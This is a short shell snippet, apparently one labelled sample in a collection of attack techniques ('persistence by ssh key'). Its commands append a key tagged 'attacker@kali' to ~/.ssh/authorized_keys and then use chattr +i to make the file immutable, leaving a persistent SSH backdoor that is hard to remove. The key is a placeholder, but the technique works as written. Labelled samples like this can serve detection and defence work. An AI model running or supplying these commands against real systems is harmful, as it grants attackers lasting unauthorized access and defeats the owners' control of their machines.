# class: persistence by ssh key; style: sloppy
mkdir -p ~/.ssh; chmod 700 ~/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDExampleExampleExampleExample attacker@kali" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
chattr +i ~/.ssh/authorized_keys
